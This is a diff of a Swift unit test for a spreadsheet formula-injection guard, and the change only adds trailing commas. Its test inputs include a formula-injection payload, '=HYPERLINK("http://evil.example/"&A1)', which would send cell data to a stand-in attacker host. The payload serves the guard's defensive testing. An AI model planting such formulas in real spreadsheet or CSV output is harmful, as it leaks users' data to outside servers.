@@ -43,7 +43,7 @@ import Testing
     @Test(arguments: [
         ("", ""), ("x", "x"), ("=1", "'=1"), ("+81", "'+81"), ("-", "'-"), ("@a", "'@a"), ("\t1", "'\t1"),
         ("\r1", "'\r1"), ("\n1", "'\n1"), (" =1", "' =1"),
-        ("　＝1", "'　＝1"), ("'=1", "''=1"), ("'", "'"), ("'x", "'x"), ("1=1", "1=1"), ("㈱=", "㈱=")
+        ("　＝1", "'　＝1"), ("'=1", "''=1"), ("'", "'"), ("'x", "'x"), ("1=1", "1=1"), ("㈱=", "㈱="),
     ]) func aFormulaIsGuardedAndComesBack(text: String, cell: String) {
         #expect(FormulaGuard.guarded(text) == cell)
         #expect(FormulaGuard.unguarded(cell) == text)
@@ -53,7 +53,7 @@ import Testing
         let directory = try StateDirectory(), store = try directory.store()
         let texts = [
             "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "' =1", "＝１", "'",
-            "''", "'x", "-", "'-", "x=1"
+            "''", "'x", "-", "'-", "x=1",
         ]
         for text in texts {
             _ = try store.create(
